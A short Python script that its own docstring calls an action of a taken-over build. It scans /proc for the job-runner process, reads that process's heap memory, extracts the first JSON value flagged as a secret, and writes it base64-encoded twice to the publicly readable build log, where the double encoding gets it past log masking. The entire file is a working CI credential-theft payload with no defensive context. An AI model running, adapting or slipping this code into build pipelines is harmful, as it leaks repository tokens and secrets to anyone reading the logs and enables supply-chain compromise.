#!/usr/bin/python3 -IS
"""An action of a build that somebody took over: recollected.py NAME LOG. It reads a token from the memory of the program NAME that runs the jobs, and writes it,
encoded twice, to the log of the build, which anybody may read."""
import base64, posix, re, sys

name, log = sys.argv[1:]


def found():
    for pid in filter(str.isdigit, posix.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as file:
                if not file.read().endswith(name.encode() + b"\0"):
                    continue
            with open(f"/proc/{pid}/maps") as file:
                parts = [line.split() for line in file]
        except OSError:
            continue
        with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
            for part in parts:
                if part[1].startswith("rw") and (len(part) < 6 or part[5] == "[heap]"):
                    start, end = (int(one, 16) for one in part[0].split("-"))
                    memory.seek(start)
                    for secret in re.findall(rb'"value":"[\w-]{9,}","isSecret":true', memory.read(end - start)):
                        return secret
    sys.exit("recollected: nothing is remembered")


with open(log, "wb") as file:
    file.write(base64.b64encode(base64.b64encode(found())))
